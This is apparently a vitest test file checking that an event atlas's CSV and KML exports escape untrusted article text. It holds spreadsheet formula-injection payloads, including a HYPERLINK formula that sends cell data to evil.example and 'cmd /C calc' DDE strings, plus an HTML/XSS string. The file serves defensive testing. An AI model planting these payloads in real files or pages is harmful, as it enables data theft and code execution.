/** Exports carry article text, which is untrusted: no spreadsheet formula runs from a CSV cell, no HTML from a KML description. */
import Papa from 'papaparse';
import { Parser } from 'htmlparser2';
import { beforeAll, describe, expect, it } from 'vitest';
import { extract } from '../../src/lib/events';
import { toCSV, toKML } from '../../src/lib/geojson';
import type { AtlasFeature, IncidentFeature } from '../../src/lib/geojson/types';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
  '\uFF1D1+1'
];
const HTML = '<img src=x onerror=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">Kirkuk</a> & more';

let real: IncidentFeature;
beforeAll(() => {
  const { features } = extract([
    { id: 'kirkuk', title: 'Bomb in Kirkuk', content: 'A roadside bomb killed three Iraqi soldiers and wounded five in Kirkuk on March 3, 2008, police said.' }
  ]);
  real = features.find((f): f is IncidentFeature => f.properties.kind === 'incident')!;
  expect(real).toBeDefined();
});

/** The real incident with one hostile string in every text field the exports write. */
function poisoned(s: string): AtlasFeature {
  const p = real.properties;
  return {
    ...real,
    properties: {
      ...p,
      title: s,
      place_name: s,
      actor1: s,
      actor2: s,
      actors: [s, `${s} (other)`],
      admin1: s,
      sub_event_type: s,
      sources: p.sources.map((src) => ({ ...src, title: s, sentence: s }))
    }
  } as AtlasFeature;
}

describe('CSV export', () => {
  it('neutralises every cell that starts like a formula, and keeps its text', () => {
    const csv = toCSV(HOSTILE.map(poisoned));
    const rows = Papa.parse<string[]>(csv.trim(), { header: false }).data.slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const [i, row] of rows.entries()) {
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r\uFF1D]/);
      // The text is all there, behind the apostrophe.
      expect(row).toContain(`'${HOSTILE[i]}`);
    }
  });

  it('leaves numbers (negative coordinates too) and ordinary text alone', () => {
    const west: AtlasFeature = { ...real, geometry: { type: 'Point', coordinates: [-77.03, -12.05] } } as AtlasFeature;
    const [header, row] = Papa.parse<string[]>(toCSV([west]).trim()).data;
    expect(row[header.indexOf('longitude')]).toBe('-77.03');
    expect(row[header.indexOf('latitude')]).toBe('-12.05');
    expect(row[header.indexOf('location')]).toBe('Kirkuk');
  });
});

/** The text content of each <description> in a KML document, as an XML reader (and so a KML viewer) decodes it. */
function descriptions(kml: string): string[] {
  const out: string[] = [];
  let current: string | null = null;
  const p = new Parser(
    {
      onopentag: (name) => {
        if (name === 'description') current = '';
      },
      ontext: (t) => {
        if (current !== null) current += t;
      },
      oncdatastart: () => {},
      onclosetag: (name) => {
        if (name === 'description' && current !== null) {
          out.push(current);
          current = null;
        }
      }
    },
    { xmlMode: true, decodeEntities: true, recognizeCDATA: true }
  );
  p.write(kml);
  p.end();
  return out;
}

/** Elements an HTML renderer would create from a string. */
function elements(html: string): string[] {
  const tags: string[] = [];
  const p = new Parser({ onopentag: (name) => tags.push(name) }, { decodeEntities: true });
  p.write(html);
  p.end();
  return tags;
}

describe('KML export', () => {
  it('descriptions are text: article HTML shows as characters and creates no element', () => {
    const kml = toKML([poisoned(HTML)]);
    const [description] = descriptions(kml);
    expect(description).toBeDefined();
    expect(elements(description)).toEqual([]);
    expect(description).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(description).toContain('&amp; more');
  });

  it('without the escaping the same description would be live HTML (the check can fail)', () => {
    expect(elements(HTML)).toEqual(['img', 'script', 'a']);
  });
});
